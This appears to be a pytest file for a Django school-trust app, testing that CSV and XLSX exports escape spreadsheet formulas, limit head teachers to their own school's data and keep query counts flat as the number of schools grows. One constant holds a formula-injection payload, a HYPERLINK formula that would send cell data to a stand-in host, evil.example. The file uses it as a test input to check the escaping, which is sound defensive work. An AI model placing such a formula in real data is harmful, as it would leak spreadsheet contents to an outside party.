"""Every list's CSV/XLSX download: cells a spreadsheet would run come out as text, a head's download holds
only their school, and a download of the whole trust reads in the same number of queries for 10 schools as
for 120. (Each list's columns and rows are tested beside its app: tests/<app>/test_exports.py.)"""

from dataclasses import dataclass
from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone

from audits.models import AuditType
from categorisation.models import Categorisation, Dimension, Route
from interventions.services import rep_open
from kpis.models import KpiResult
from letters.models import Letter
from schools.models import School
from tests.audits.factories import action_at
from tests.categorisation.factories import level
from tests.downloads import download, formula_cells, table
from tests.factories import SchoolFactory
from tests.kpis.factories import year
from tests.letters.factories import draft_letter, half_term

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")'


def _decided(schools, world, term):
    now = timezone.now()
    universal = {d: level(d, "universal") for d in Dimension.values}
    Categorisation.objects.bulk_create(
        Categorisation(
            school=school,
            half_term=ht,
            dimension=d,
            level=universal[d],
            route=Route.CEO,
            decided_by=world.ceo,
            decided_at=now,
        )
        for school in schools
        for ht in (term.previous(), term)
        for d in universal
    )


def _with_letters(schools, world, term):
    Letter.objects.bulk_create(Letter(school=s, half_term=term, created_by=world.ceo) for s in schools)


def _with_kpis(schools, world, term):
    KpiResult.objects.bulk_create(
        KpiResult(
            school=s,
            academic_year=year("2025-26"),
            measure="ks2_rwm",
            all_pupils=70,
            disadvantaged=50,
            cohort=30,
            disadvantaged_cohort=10,
            updated_by=world.ceo,
            updated_at=timezone.now(),
        )
        for s in schools
    )


def _with_reps(schools, world, term):
    for school in schools:
        rep_open(school=school, written_on=date(2026, 11, 9), author=world.ceo, by=world.ceo)


def _with_actions(schools, world, term):
    for school in schools:
        action_at(school, owner=world.head_a)


@dataclass
class Export:
    name: str
    params: callable  # world, term -> GET parameters (the page's filters)
    lists: callable  # (schools, world, term): what puts each school in the list
    kwargs: callable = lambda world, term: {}
    persona: str = "ceo"

    def url(self, world, term):
        return reverse(self.name, kwargs=self.kwargs(world, term))


def _nothing(schools, world, term):
    pass


EXPORTS = [
    Export("categorisation:overview_export", lambda w, t: {"half_term": t.pk}, _decided),
    Export(
        "categorisation:decisions_export",
        lambda w, t: {},
        _decided,
        kwargs=lambda w, t: {"half_term_pk": t.pk},
    ),
    Export("letters:list_export", lambda w, t: {"half_term": t.pk}, _with_letters),
    Export("kpis:trust_table_export", lambda w, t: {"year": "2025-26"}, _with_kpis),
    Export("interventions:dashboard_export", lambda w, t: {}, _with_reps),
    Export("audits:schedule_export", lambda w, t: {}, _nothing, persona="compliance_manager"),
    Export("audits:actions_export", lambda w, t: {}, _with_actions, persona="compliance_manager"),
]
IDS = [export.name for export in EXPORTS]


@pytest.fixture
def term(world):
    return half_term()  # Aut 2, 2026


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("export", EXPORTS, ids=IDS)
def test_a_school_named_as_a_formula_comes_out_as_text(export, fmt, world, term, client_as):
    school = SchoolFactory(urn="199999", name=FORMULA_NAME)
    export.lists([school], world, term)
    client = client_as(getattr(world, export.persona))
    response = download(client, export.url(world, term), fmt, **export.params(world, term))
    cells = [cell for row in table(response) for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert FORMULA_NAME not in cells
    if fmt == "xlsx":
        assert formula_cells(response) == []


def test_a_heads_download_of_their_letters_holds_only_their_school(world, client_as):
    from tests.letters.factories import sent_letter

    mine = sent_letter(world.school_a, world.ceo)
    sent_letter(world.school_b, world.ceo)
    draft_letter(world.school_a, world.ceo)  # not sent: not theirs to read yet
    client = client_as(world.head_a)
    rows = table(download(client, reverse("letters:school_letters_export", args=[world.school_a.urn])))
    assert [row[:4] for row in rows[1:]] == [
        [world.school_a.urn, world.school_a.name, mine.half_term.label, "1"]
    ]
    refused = client.get(reverse("letters:school_letters_export", args=[world.school_b.urn]))
    assert refused.status_code == 404
    # The trust-wide lists are not theirs: refused as their pages are.
    for export in EXPORTS:
        assert client.get(export.url(world, half_term())).status_code == 403, export.name


def test_a_heads_download_of_their_audit_actions_holds_only_their_school(world, client_as):
    action_at(world.school_a, owner=world.head_a)
    action_at(world.school_b, owner=world.head_b)
    rows = table(
        download(client_as(world.head_a), reverse("audits:school_actions_export", args=[world.school_a.urn]))
    )
    assert {row[0] for row in rows[1:]} == {world.school_a.urn}


def _schools(first, count):
    return [SchoolFactory(urn=f"4{n:05d}", name=f"Trust School {n:03d}") for n in range(first, first + count)]


@pytest.mark.parametrize("export", EXPORTS, ids=IDS)
def test_a_download_of_the_whole_trust_reads_the_same_queries_for_10_or_120_schools(
    export, world, term, client_as, django_assert_max_num_queries
):
    assert AuditType.objects.exists()  # the schedule lists every school against the seeded audit types
    client = client_as(getattr(world, export.persona))
    url, params = export.url(world, term), export.params(world, term)
    export.lists([world.school_a, world.school_b], world, term)
    client.get(url, params)  # the session and roles are read the same way every time
    counted = {}
    for total, first, count in ((10, 0, 8), (120, 8, 110)):
        export.lists(_schools(first, count), world, term)
        with django_assert_max_num_queries(30) as captured:
            header, *rows = table(download(client, url, "csv", **params))
        counted[total] = len(captured)
        assert len({row[header.index("URN")] for row in rows}) == total, "every school is in the download"
    assert School.objects.count() == 120
    assert counted[10] == counted[120], counted
    print(f"{export.name}: {counted[10]} queries for 10 schools, {counted[120]} for 120")
